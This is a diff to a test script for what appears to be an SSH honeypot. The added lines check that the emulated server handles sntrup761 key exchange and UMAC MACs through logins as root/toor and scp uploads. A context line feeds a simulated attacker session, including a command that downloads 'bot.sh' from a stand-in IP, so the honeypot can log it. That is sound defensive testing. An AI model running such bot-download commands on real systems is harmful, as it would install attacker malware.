@@ -68,6 +68,29 @@ expect_log "ssh login with HASSH" 'shell01 ssh - auth_attempt' 'username="root"'
     'client_version="SSH-2.0-OpenSSH_' 'hassh="[0-9a-f]{32}"'
 expect_log "exec command" 'shell01 ssh - command' 'command="uname -a; id"'
 
+# --- the key exchange and MACs Debian 12's sshd offers (added to the vendored
+# russh): each one alone logs in and carries a command whose output spans
+# several 1 KiB UMAC chunks; an scp upload covers the client-to-server side.
+for kex in sntrup761x25519-sha512@openssh.com sntrup761x25519-sha512; do
+    out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -o KexAlgorithms=$kex -p "$(p 22)" root@$SHELLBOX 'echo kex-ok') \
+        || fail "ssh -o KexAlgorithms=$kex ($out)"
+    [ "$out" = kex-ok ] || fail "ssh -o KexAlgorithms=$kex: $out"
+done
+for mac in umac-64-etm@openssh.com umac-128-etm@openssh.com umac-64@openssh.com umac-128@openssh.com; do
+    out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -o MACs=$mac -c aes128-ctr -p "$(p 22)" root@$SHELLBOX \
+        'echo mac-ok; cat /proc/cpuinfo') || fail "ssh -o MACs=$mac ($out)"
+    [ "$(head -1 <<<"$out")" = mac-ok ] && [ "${#out}" -gt 4096 ] || fail "ssh -o MACs=$mac: ${out:0:200}"
+    head -c 20000 /dev/urandom >"$WORK/umac.bin"
+    sshpass -p toor scp "${SSHOPTS[@]}" -o MACs=$mac -c aes128-ctr -P "$(p 22)" "$WORK/umac.bin" \
+        root@$SHELLBOX:/tmp/umac.bin >"$WORK/scp-umac.out" 2>&1 || { cat "$WORK/scp-umac.out"; fail "scp with $mac"; }
+done
+# With default options the client picks sntrup761, as against Debian 12's sshd.
+verbose=$(sshpass -p toor ssh -o LogLevel=DEBUG1 "${SSHOPTS[@]}" -p "$(p 22)" root@$SHELLBOX true 2>&1 | tr -d '\r') \
+    || fail "ssh -v ($verbose)"
+grep -q "kex: algorithm: sntrup761x25519-sha512$" <<<"$verbose" || { echo "$verbose"; fail "default kex is not sntrup761"; }
+grep -q "kex: server->client cipher: chacha20-poly1305@openssh.com MAC: <implicit>" <<<"$verbose" \
+    || { echo "$verbose"; fail "default cipher"; }
+
 # --- PTY shell (TERM=xterm: bash 5.2 brackets pastes and sets the window
 # title, but colours only *-256color prompts)
 printf 'whoami\ncd /tmp && pwd\nwget http://203.0.113.9/bot.sh\nexit 0\n' \
